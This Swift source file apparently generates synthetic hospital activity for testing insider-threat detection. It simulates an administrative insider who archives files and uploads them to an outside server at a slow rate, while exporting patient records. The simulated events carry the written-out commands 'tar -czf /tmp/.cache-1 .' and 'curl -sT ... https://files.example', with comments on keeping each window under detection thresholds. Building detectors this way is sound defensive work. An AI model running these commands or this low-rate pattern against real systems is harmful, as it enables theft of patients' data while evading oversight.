import CordonCore

/// Somebody in administration exports records and sends archives to an outside server, every half an hour of every shift
/// in the second half of the recording.
///
/// Seen in raw counts: exports, two programs the person does not use, and one peer that nobody else has; every single
/// window is within what the person may do in a busy minute.
struct SlowExfiltration {
  private static let interval = 1_500.0
  private static let exportsAShift = 3.0

  let cast: AttackCast

  /// Nil where nobody in administration works often enough.
  var activity: HospitalActivity? {
    guard let (person, shifts) = cast.insider(.administration, for: .slowExfiltration) else { return nil }
    let hospital = cast.hospital
    var activity = HospitalActivity()
    for shift in shifts {
      var random = hospital.stream("exfiltration", person.index, shift.day)
      let sessions = ShiftWork(hospital: hospital, person: person, shift: shift).sessions
      guard !sessions.isEmpty else { continue }
      for session in sessions { send(in: session, &random, into: &activity) }
      for _ in 0..<1 + random.poisson(mean: Self.exportsAShift) {
        export(in: random.pick(sessions), on: shift.day, &random, into: &activity)
      }
    }
    return activity
  }

  private func send(in session: Session, _ random: inout SeededStream, into activity: inout HospitalActivity) {
    var process = Session.firstOfAttack
    var time = session.start.advanced(by: .seconds(random.exponential(mean: Self.interval)))
    while time < session.end {
      process += 2
      func add(_ program: Program, _ process: Int, _ deed: MachineEvent.Deed, _ milliseconds: Int) {
        activity.machine.append(
          session.event(
            program, process, deed, at: time.advanced(by: .milliseconds(milliseconds)), attack: .slowExfiltration))
      }
      add(.archive, process, .start(arguments: ["tar", "-czf", "/tmp/.cache-1", "."], rights: .own), 0)
      add(
        .transfer, process + 1,
        .start(arguments: ["curl", "-sT", "/tmp/.cache-1", "https://files.example"], rights: .own), 3_000)
      add(.transfer, process + 1, .connect(HospitalNetwork.dropSite, .underWay), 3_050)
      time = time.advanced(by: .seconds(60 + random.exponential(mean: Self.interval)))
    }
  }

  private func export(
    in session: Session, on day: Int, _ random: inout SeededStream, into activity: inout HospitalActivity
  ) {
    let census = cast.hospital.census
    let length = Double(session.end.since(session.start).milliseconds)
    let ward = Int(random.uniform() * Double(census.wards))
    activity.records.append(
      RecordAccess(
        time: session.start.advanced(by: .milliseconds(Int(length * random.uniform()))), person: session.person,
        host: session.host, interaction: .export, patient: random.pick(census.patients(in: ward, on: day)),
        attack: .slowExfiltration))
  }
}
